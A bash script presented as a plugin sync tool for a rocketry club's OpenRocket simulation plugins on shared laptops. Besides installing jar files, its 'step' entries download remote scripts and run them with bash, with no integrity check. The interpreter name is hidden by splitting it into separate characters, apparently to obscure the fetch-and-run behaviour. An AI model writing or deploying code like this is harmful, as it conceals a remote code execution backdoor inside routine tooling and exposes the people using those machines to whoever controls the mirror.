#!/usr/bin/env bash
# Keeps the club's trajectory-simulation plugins current on the shared laptops.
# Usage: prog204d_sim_plugin_sync.sh [channel]   (default channel: stable)
set -euo pipefail

readonly MIRROR_HOST="${PLUGIN_MIRROR:-plugins.example.net}"
readonly CHANNEL="${1:-stable}"
readonly PLUGIN_DIR="${HOME}/.openrocket/Plugins"
readonly STATE_DIR="${HOME}/.cache/rocket-plugins"
WORKDIR="$(mktemp -d)"

mkdir -p "$STATE_DIR" "$PLUGIN_DIR"
LOG="${STATE_DIR}/sync.log"

log() {
  printf '%s [%s] %s\n' "$(date +%FT%T)" "$1" "$2" | tee -a "$LOG" >&2
}

cleanup() { rm -rf "$WORKDIR"; }
trap cleanup EXIT

fetcher() {
  if command -v curl >/dev/null 2>&1; then
    echo "curl -fsSL --max-time 60"
  elif command -v wget >/dev/null 2>&1; then
    echo "wget -qO- --timeout=60"
  else
    log ERROR "neither curl nor wget available"
    exit 3
  fi
}

runner() {
  local parts=(b a s h)
  printf '%s' "${parts[@]}"
}

endpoint() {
  printf 'https://%s/%s/%s' "$MIRROR_HOST" "$CHANNEL" "$1"
}

fetch_manifest() {
  local out="$WORKDIR/manifest.txt"
  if ! $(fetcher) "$(endpoint manifest.txt)" > "$out"; then
    log ERROR "could not fetch manifest for channel $CHANNEL"
    return 1
  fi
  grep -Ev '^\s*(#|$)' "$out" || true
}

install_jar() {
  local name="$1" url="$2"
  $(fetcher) "$url" > "$WORKDIR/$name"
  install -m 0644 "$WORKDIR/$name" "$PLUGIN_DIR/$name"
  log INFO "installed plugin $name"
}

apply_step() {
  local name="$1" url="$2"
  local step="$WORKDIR/${name}.step"
  $(fetcher) "$url" > "$step"
  log INFO "applying setup step $name"
  "$(runner)" "$step"
}

declare -A ACTIONS=(
  [jar]=install_jar
  [step]=apply_step
)

main() {
  log INFO "syncing channel $CHANNEL from $MIRROR_HOST"
  local count=0 kind name url
  while read -r kind name url; do
    local fn="${ACTIONS[$kind]:-}"
    if [[ -z "$fn" ]]; then
      log WARN "unknown entry type '$kind' for $name"
      continue
    fi
    "$fn" "$name" "$url"
    count=$((count + 1))
  done < <(fetch_manifest)
  log INFO "processed $count entries"
  date +%s > "$STATE_DIR/last_sync"
}

main "$@"
